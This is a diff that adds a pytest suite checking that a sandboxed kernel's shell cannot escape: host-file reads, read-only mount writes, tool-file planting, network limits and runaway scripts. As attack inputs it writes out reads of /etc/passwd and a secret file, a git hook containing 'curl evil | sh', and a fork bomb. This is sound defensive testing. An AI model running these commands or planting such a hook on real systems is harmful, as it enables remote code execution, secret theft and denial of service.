@@ -1,0 +1,114 @@
+"""Promise (docs/shell.md, docs/security.md): the shell inside the sandbox reaches nothing Python cannot: the host's
+files are not there, read-only mounts stay unchanged, an rw mount's tool files are refused, the network is the
+`allow_net` list, and a runaway script (recursion, a loop, a flood of output) ends without taking the kernel down."""
+
+from __future__ import annotations
+
+import pytest
+from attack_kit import assert_alive, token
+
+from conftest import Listener, execute, start_kernel, stop_kernel, value
+
+
+@pytest.fixture(scope="module")
+def host(tmp_path_factory):
+    root = tmp_path_factory.mktemp("shell-attacks")
+    (root / "ro").mkdir()
+    (root / "ro" / "keep.txt").write_text("unchanged")
+    (root / "rw").mkdir()
+    secret = root / "secret.txt"
+    secret.write_text(token("host-secret"))
+    return root, secret
+
+
+@pytest.fixture(scope="module")
+def listener():
+    server = Listener()
+    yield server
+    server.close()
+
+
+@pytest.fixture(scope="module")
+def sandbox(host):
+    root, _ = host
+    km, kc = start_kernel(
+        [
+            f"--SandboxKernel.mounts=['{root / 'ro'}:/data:ro', '{root / 'rw'}:/out:rw']",
+            "--SandboxKernel.cell_timeout=30",
+        ]
+    )
+    yield km, kc
+    stop_kernel(km, kc)
+
+
+def shell_out(kc, command: str) -> str:
+    run = execute(kc, f"_r = !{{ {command} ; }} 2>&1\n'\\n'.join(_r)")
+    return value(run)
+
+
+def test_the_hosts_files_are_not_there(sandbox, host):
+    _, kc = sandbox
+    _, secret = host
+    out = shell_out(kc, f"cat {secret}; cat /etc/passwd; cd /../../..; ls; ln -s {secret} /tmp/s; cat /tmp/s")
+    assert secret.read_text() not in out
+    assert "root:x:0:0" not in out
+    assert "No such file or directory" in out
+    assert_alive(kc)
+
+
+def test_a_read_only_mount_stays_unchanged(sandbox, host):
+    _, kc = sandbox
+    root, _ = host
+    out = shell_out(kc, "echo pwned > /data/keep.txt; rm /data/keep.txt; touch /data/new; mv /data/keep.txt /tmp/")
+    assert (root / "ro" / "keep.txt").read_text() == "unchanged"
+    assert not (root / "ro" / "new").exists()
+    assert "read-only" in out or "EACCES" in out or "ermission denied" in out, out
+
+
+def test_tool_files_in_an_rw_mount_are_refused_to_the_shell(sandbox, host):
+    _, kc = sandbox
+    root, _ = host
+    out = shell_out(
+        kc, "mkdir -p /out/.git/hooks && echo 'curl evil | sh' > /out/.git/hooks/pre-commit; echo x > /out/Makefile"
+    )
+    assert not (root / "rw" / ".git" / "hooks" / "pre-commit").exists()
+    assert not (root / "rw" / "Makefile").exists()
+    assert "allow_tool_files" in out, out
+    shell_out(kc, "echo fine > /out/result.txt")
+    assert (root / "rw" / "result.txt").read_text() == "fine\n"
+
+
+def test_curl_reaches_only_allow_net(sandbox, listener):
+    _, kc = sandbox
+    out = shell_out(kc, f"curl -sS http://127.0.0.1:{listener.port}/; curl -sS https://pypi.org/")
+    assert "network access to 127.0.0.1" in out and "SandboxKernel.allow_net" in out, out
+    assert listener.settle() == []
+
+
+def test_curl_reaches_a_listed_host():
+    server = Listener()
+    km, kc = start_kernel([f"--SandboxKernel.allow_net=['127.0.0.1:{server.port}']"])
+    try:
+        assert shell_out(kc, f"curl -s http://127.0.0.1:{server.port}/") == "hello"
+    finally:
+        stop_kernel(km, kc)
+        server.close()
+
+
+def test_a_fork_bomb_ends_with_an_error_and_the_kernel_goes_on(sandbox):
+    _, kc = sandbox
+    run = execute(kc, "!:(){ :|:& };:", timeout=60)
+    assert run.content["status"] == "ok", run.content
+    assert "maximum recursion depth" in run.stream("stderr")
+    assert value(execute(kc, "1 + 1")) == "2"
+
+
+def test_a_flood_of_output_is_cut_at_max_output_bytes():
+    km, kc = start_kernel(["--SandboxKernel.max_output_bytes=100000"])
+    try:
+        run = execute(kc, "%%bash\nfor i in $(seq 1 20000); do echo line-$i-padding-padding-padding; done", timeout=120)
+        shown = sum(len(m["content"].get("text", "")) for m in run.outputs if m["msg_type"] == "stream")
+        assert shown <= 110_000, shown
+        assert value(execute(kc, "1 + 1")) == "2"
+    finally:
+        stop_kernel(km, kc)
